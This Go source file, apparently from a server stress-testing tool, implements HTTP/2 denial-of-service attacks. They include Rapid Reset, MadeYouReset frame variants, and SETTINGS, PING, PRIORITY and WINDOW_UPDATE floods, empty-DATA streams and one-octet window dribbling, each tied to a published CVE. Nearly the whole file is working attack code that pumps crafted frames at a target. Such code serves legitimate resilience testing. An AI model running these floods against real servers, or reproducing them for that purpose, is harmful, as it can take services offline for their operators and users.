package attack

import (
	"encoding/binary"
	"math/rand/v2"
	"strconv"

	"golang.org/x/net/http2"
)

// streamAttacks make work and take it back.
func streamAttacks() []Attack {
	made := func(name, what string, offend func(*h2, uint32) error) Attack {
		return Attack{Name: "h2-madeyoureset-" + name, What: "requests that " + what + " makes the server reset (CVE-2025-8671)", run: madeYouReset(offend)}
	}
	return []Attack{
		{Name: "h2-rapid-reset", What: "requests for a hit, each reset at once (CVE-2023-44487)", run: rapidReset(func(t Target) string { return t.Small })},
		{Name: "h2-rapid-reset-miss", What: "requests that need the origin, each reset at once (CVE-2023-44487)", run: rapidReset(func(t Target) string {
			return t.Small + "?miss=" + strconv.FormatUint(rand.Uint64(), 36)
		})},
		made("window-zero", "a WINDOW_UPDATE of 0", func(h *h2, id uint32) error { return h.fr.WriteWindowUpdate(id, 0) }),
		made("window-overflow", "a window beyond 2^31-1", func(h *h2, id uint32) error { return h.fr.WriteWindowUpdate(id, 1<<31-1) }),
		made("priority-length", "a PRIORITY of 4 octets", func(h *h2, id uint32) error {
			return h.fr.WriteRawFrame(http2.FramePriority, 0, id, []byte{0, 0, 0, 0})
		}),
		made("priority-self", "a PRIORITY that depends on itself", func(h *h2, id uint32) error {
			return h.fr.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 1})
		}),
		made("headers-after-end", "HEADERS after END_STREAM", func(h *h2, id uint32) error { return h.headers(id, h.target.Large, true) }),
		made("data-after-end", "DATA after END_STREAM", func(h *h2, id uint32) error { return h.fr.WriteData(id, false, []byte("x")) }),
	}
}

func rapidReset(path func(Target) string) func(*session) error {
	return func(s *session) error {
		h, err := s.begin(true)
		if err != nil {
			return err
		}
		return h.pump(func() error {
			id, err := h.get(path(h.target))
			if err != nil {
				return err
			}
			return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	}
}

// madeYouReset asks for what takes the server longer than the offence to arrive: an object that does not fit the window.
func madeYouReset(offend func(*h2, uint32) error) func(*session) error {
	return func(s *session) error {
		h, err := s.begin(true)
		if err != nil {
			return err
		}
		return h.pump(func() error {
			id, err := h.get(h.target.Large)
			if err != nil {
				return err
			}
			return offend(h, id)
		})
	}
}

// frameAttacks send frames that cost the sender nothing.
func frameAttacks() []Attack {
	n := uint32(0x7ffffffd) // the streams that are only spoken of
	return []Attack{
		{Name: "h2-settings", What: "SETTINGS, each to be applied and acknowledged (CVE-2019-9515)", run: floodOf(true, settingsFrame)},
		{Name: "h2-settings-unread", What: "the same without reading the acknowledgements", run: floodOf(false, settingsFrame)},
		{Name: "h2-ping", What: "PING, each to be answered (CVE-2019-9512)", run: floodOf(true, pingFrame)},
		{Name: "h2-ping-unread", What: "the same without reading the answers", run: floodOf(false, pingFrame)},
		{Name: "h2-priority", What: "PRIORITY of streams that nobody has opened (CVE-2019-9513)", run: floodOf(true, func(h *h2) error {
			return h.fr.WritePriority(n-2*uint32(h.units%10_000), http2.PriorityParam{StreamDep: 0, Weight: uint8(h.units)}) //nolint:gosec // a remainder
		})},
		{Name: "h2-priority-update", What: "PRIORITY_UPDATE of streams that nobody has opened (RFC 9218 section 7.1)", run: floodOf(true, func(h *h2) error {
			payload := binary.BigEndian.AppendUint32(nil, 1+2*uint32(h.units%10_000)) //nolint:gosec // a remainder
			return h.fr.WriteRawFrame(0x10, 0, 0, append(payload, "u=1"...))
		})},
		{Name: "h2-window-update", What: "WINDOW_UPDATE of the connection by 1", run: floodOf(true, func(h *h2) error { return h.fr.WriteWindowUpdate(0, 1) })},
		{Name: "h2-empty-data", What: "a request whose content is empty DATA frames without end (CVE-2019-9518)", run: emptyData},
		{Name: "h2-data-dribble", What: "large objects through a window of one octet at a time (CVE-2019-9511)", run: dribble},
	}
}

func settingsFrame(h *h2) error {
	return h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(h.units % 2 * 4096)}) //nolint:gosec // 0 or 4096
}

func pingFrame(h *h2) error {
	var data [8]byte
	binary.BigEndian.PutUint64(data[:], uint64(h.units)) //nolint:gosec // never negative
	return h.fr.WritePing(false, data)
}

func floodOf(read bool, frame func(*h2) error) func(*session) error {
	return func(s *session) error {
		h, err := s.begin(read)
		if err != nil {
			return err
		}
		return h.pump(func() error { return frame(h) })
	}
}

func emptyData(s *session) error {
	h, err := s.begin(true)
	if err != nil {
		return err
	}
	id, err := h.open()
	if err != nil {
		return err
	}
	param := http2.HeadersFrameParam{StreamID: id, BlockFragment: request(post, h.target.Small), EndHeaders: true}
	if err := h.fr.WriteHeaders(param); err != nil {
		return h.why(err)
	}
	return h.pump(func() error { return h.fr.WriteData(id, false, nil) })
}

// dribble opens the windows of ten streams octet by octet.
func dribble(s *session) error {
	h, err := s.begin(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	const streams = 10
	for range streams {
		if _, err := h.get(h.target.Large); err != nil {
			return h.why(err)
		}
	}
	return h.pump(func() error { return h.fr.WriteWindowUpdate(1+2*uint32(h.units%streams), 1) }) //nolint:gosec // a remainder
}
